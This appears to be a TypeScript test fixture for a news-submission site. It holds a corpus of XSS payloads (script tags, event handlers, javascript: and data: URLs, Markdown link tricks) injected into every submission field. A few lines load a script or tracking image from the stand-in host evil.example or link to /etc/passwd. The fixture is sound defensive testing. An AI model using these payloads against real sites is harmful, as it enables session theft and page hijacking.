// Hostile submissions for the browser XSS test: every vector a contributor could try, in every field that reaches
// a page (title, author, source, summary, body). Payloads call alert/confirm/prompt or `xss()`, which the test's
// init script traps, so a payload that runs is recorded even if no dialog opens.

export interface HostileSubmission {
  /** Unique, for messages. */
  readonly name: string;
  readonly submission: {
    readonly title: string;
    readonly body: string;
    readonly author: string;
    readonly source: string;
    readonly summary: string;
    readonly channel: string;
    readonly contact?: { readonly name?: string; readonly email?: string };
  };
}

/** Inline HTML/JS vectors: dangerous wherever a template writes contributor text unescaped. */
export const htmlVectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>xss("script")</script>',
  '"><script>alert(2)</script>',
  "'><script>alert(3)</script>",
  '</title><script>alert(4)</script>',
  '</script><script>alert(5)</script>',
  '</textarea><script>alert(6)</script>',
  '<img src=x onerror=alert(7)>',
  '<img src="x" onerror="xss(\'img\')">',
  '<img/src/onerror=alert(8)>',
  '<IMG SRC=x OnErRoR=alert(9)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<svg onload=alert(10)>',
  '<svg><script>alert(11)</script></svg>',
  '<svg><animate onbegin=alert(12) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(13)"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>',
  '<body onload=alert(15)>',
  '<iframe src="javascript:alert(16)"></iframe>',
  '<iframe srcdoc="<script>alert(17)</script>"></iframe>',
  '<object data="javascript:alert(18)"></object>',
  '<embed src="data:text/html,<script>alert(19)</script>">',
  '<a href="javascript:alert(20)">click</a>',
  '<a href="jav&#x09;ascript:alert(21)">tab</a>',
  '<a href=" javascript:alert(22)">space</a>',
  '<form action="javascript:alert(23)"><button>go</button></form>',
  '<button formaction="javascript:alert(24)">go</button>',
  '<input autofocus onfocus=alert(25)>',
  '<details open ontoggle=alert(26)>',
  '<video><source onerror=alert(27)></video>',
  '<audio src=x onerror=alert(28)>',
  '<marquee onstart=alert(29)>x</marquee>',
  '<div style="background:url(javascript:alert(30))">x</div>',
  '<style>@import "javascript:alert(31)";</style>',
  '<link rel=stylesheet href="javascript:alert(32)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(33)">',
  '<base href="javascript:alert(34)//">',
  '<template><script>alert(35)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(36)>">',
  '<!--<img src="--><img src=x onerror=alert(37)//">',
  '<![CDATA[<script>alert(38)</script>]]>',
  '&lt;script&gt;alert(39)&lt;/script&gt;',
  '&#60;script&#62;alert(40)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(41)\\u003c/script\\u003e',
  '＜script＞alert(42)＜/script＞',
  '\u202e<script>alert(43)</script>',
  '<scr\u200bipt>alert(44)</scr\u200bipt>',
  '<scr\u0000ipt>alert(45)</script>',
  '<<script>alert(46);//<</script>',
  '<script\x20type="text/javascript">alert(47)</script>',
  '"onmouseover="alert(48)',
  "' onfocus='alert(49)' autofocus='",
  '" autofocus onfocus="xss(50)" x="',
  '{{constructor.constructor("alert(51)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literal on purpose
  '${alert(52)}',
  '<x contenteditable onblur=alert(53)>lose focus',
  '<isindex type=image src=1 onerror=alert(54)>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1NSk8L3NjcmlwdD4=">data</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(56)>">',
  '<script type="application/ld+json">{"@context":"x"}</script><script>alert(57)</script>',
  '\u2028\u2029</script><script>alert(58)</script>',
];

/** Markdown-level vectors: links, images, definitions, autolinks and broken syntax. Bodies only. */
export const markdownVectors: readonly string[] = [
  '[click](javascript:alert(101))',
  '[click](JaVaScRiPt:alert(102))',
  '[click](javascript&#58;alert(103))',
  '[click](&#106;avascript:alert(104))',
  '[click](java\\script:alert(105))',
  '[click](  javascript:alert(106)  )',
  '[click](<javascript:alert(107)>)',
  '[click](vbscript:msgbox(108))',
  '[click](data:text/html,<script>alert(109)</script>)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMTApPC9zY3JpcHQ+)',
  '[click](file:///etc/passwd)',
  '[click](javascript://%0aalert(112))',
  '[click](https://example.com "title\\" onmouseover=\\"alert(113)")',
  '[click](https://example.com" onmouseover="alert(114))',
  '![x](javascript:alert(115))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTE2KT4=)',
  '![x" onerror="alert(117)](/x.png)',
  '![x](/x.png "t\\" onerror=\\"alert(118)")',
  '![x](https://evil.example/track.png)',
  '![x](//evil.example/track.png)',
  '![x](/\\evil.example/track.png)',
  '[a][r]\n\n[r]: javascript:alert(122)',
  '[a][r]\n\n[r]: data:text/html,<script>alert(123)</script> "t"',
  '<javascript:alert(124)>',
  '<data:text/html,<script>alert(125)</script>>',
  '<https://example.com/"onmouseover="alert(126)">',
  '`<script>alert(127)</script>`',
  '```html\n<script>alert(128)</script>\n```',
  '    <script>alert(129)</script>',
  '<div>\n<script>alert(130)</script>\n</div>',
  '<details open ontoggle=alert(131)>\n\nbody\n\n</details>',
  '> <img src=x onerror=alert(132)>\n> > <svg onload=alert(132)>',
  '- <img src=x onerror=alert(133)>\n  - [x](javascript:alert(133))',
  '# <img src=x onerror=alert(134)>\n\n## [h](javascript:alert(134))',
  '| a | b |\n|---|---|\n| <script>alert(135)</script> | [x](javascript:alert(135)) |',
  '***[***](javascript:alert(136))***',
  '[[[[[[[[x](javascript:alert(137))]]]]]]]',
  '[x](javascript:alert(138)\n[y](https://example.com)',
  '![[x](javascript:alert(139))](/a.png)',
  '[![x](/a.png)](javascript:alert(140))',
  '*<img src=x onerror=alert(141)>*_<svg onload=alert(141)>_',
  '\\<script\\>alert(142)\\</script\\>',
  '&#x3C;script&#x3E;alert(143)&#x3C;/script&#x3E;',
  '[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(144))',
  '[x](%6Aavascript:alert(145))',
  '[x](\u0001javascript:alert(146))',
  '[x](javas\u200bcript:alert(147))',
  '[x](#"><script>alert(148)</script>)',
  '[x](/path?q="><img src=x onerror=alert(149)>)',
  '<!-- --><script>alert(150)</script><!-- -->',
  '[foo]: <javascript:alert(151)>\n\n[foo]',
  'line<br onmouseover=alert(152)>break',
];

const CHANNELS = ['news/politics', 'news/society', 'focus/public-welfare', 'law/cases', 'opinion'] as const;
const LIMITS = { title: 200, author: 100, source: 100, summary: 500 } as const;
type MetaField = keyof typeof LIMITS;
const META_FIELDS: readonly MetaField[] = ['title', 'author', 'source', 'summary'];

function entry(n: number, name: string, fields: Partial<HostileSubmission['submission']>): HostileSubmission {
  return {
    name: `${n}: ${name}`,
    submission: {
      title: `恶意稿件 ${n}`,
      body: '正文。',
      author: '',
      source: '',
      summary: '',
      channel: CHANNELS[n % CHANNELS.length] ?? 'opinion',
      ...fields,
    },
  };
}

/** The corpus: each HTML vector in a body and in a metadata field, each Markdown vector in a body, plus mixtures. */
export function hostileSubmissions(): HostileSubmission[] {
  const out: HostileSubmission[] = [];
  htmlVectors.forEach((vector, i) => {
    out.push(entry(out.length, `body html ${i}`, { body: `前文 ${vector} 后文\n\n${vector}` }));
    // Rotate through the metadata fields, skipping any the vector is too long for.
    const field =
      [0, 1, 2, 3]
        .map((k) => META_FIELDS[(i + k) % META_FIELDS.length] ?? 'title')
        .find((f) => [...vector].length + 4 <= LIMITS[f]) ?? 'summary';
    out.push(
      entry(out.length, `${field} html ${i}`, { [field]: `${field === 'title' ? '' : 'x '}${vector}` }),
    );
  });
  markdownVectors.forEach((vector, i) => {
    out.push(entry(out.length, `body markdown ${i}`, { body: `段落。\n\n${vector}\n\n结尾。` }));
  });
  // Everything at once, in every field, including the private contact (which must never be rendered).
  for (let i = 0; i < 4; i++) {
    const pick = (k: number) => htmlVectors[(i * 7 + k) % htmlVectors.length] ?? '';
    out.push(
      entry(out.length, `all fields ${i}`, {
        title: pick(0),
        author: pick(1).slice(0, 100),
        source: pick(2).slice(0, 100),
        summary: pick(3),
        body: [...markdownVectors.slice(i * 10, i * 10 + 10), ...htmlVectors.slice(i * 10, i * 10 + 10)].join(
          '\n\n',
        ),
        contact: { name: pick(4).slice(0, 100), email: 'x"><script>alert(1)</script>@example.cn' },
      }),
    );
  }
  return out;
}
